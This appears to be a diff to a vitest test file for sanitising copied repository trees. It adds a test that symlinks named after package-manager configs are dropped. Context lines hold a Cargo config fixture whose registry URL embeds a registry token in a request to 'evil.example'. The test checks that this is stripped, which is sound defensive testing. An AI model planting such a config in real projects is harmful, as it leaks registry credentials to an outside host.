@@ -1,4 +1,6 @@
 // Variables of the environment in what a repository says of its sources: none reaches a package manager that runs here.
+import { existsSync, symlinkSync } from "node:fs"
+import { join } from "node:path"
 import { describe, expect, it } from "vitest"
 import { managerOf } from "../../src/packages/commands.ts"
 import { readLockfile } from "../../src/packages/lockfiles/index.ts"
@@ -28,6 +30,17 @@ describe("settings of a copy in TOML", () => {
     const cargo = '[registries.a]\nindex = "sparse+https://evil.example/$CARGO_REGISTRIES_B_TOKEN/"\n'
     expect(clean(".cargo/config.toml", cargo)).not.toMatch(/\$|evil/)
   })
+})
+
+it.each([
+  ...[".npmrc", ".yarnrc.yml", "uv.toml", ".cargo", "pyproject.toml", "m/Pipfile", "pnpm-workspace.yaml"],
+  ...[".pdm-plugins", ".yarn", "node_modules"],
+])("a copy has no link by the name of %s", (path) => {
+  const root = temporaryDirectory({ "other/file": "x", "m/x": "" })
+  symlinkSync(path.startsWith("m/") ? "../other" : "other", join(root, path))
+  symlinkSync("other", join(root, "link"))
+  const { dir } = copyTree(root, ["other/file", "link", path], temporaryDirectory())
+  expect([path, "link"].map((one) => existsSync(join(dir, one)))).toEqual([false, true])
 })
 
 describe("manifests", () => {
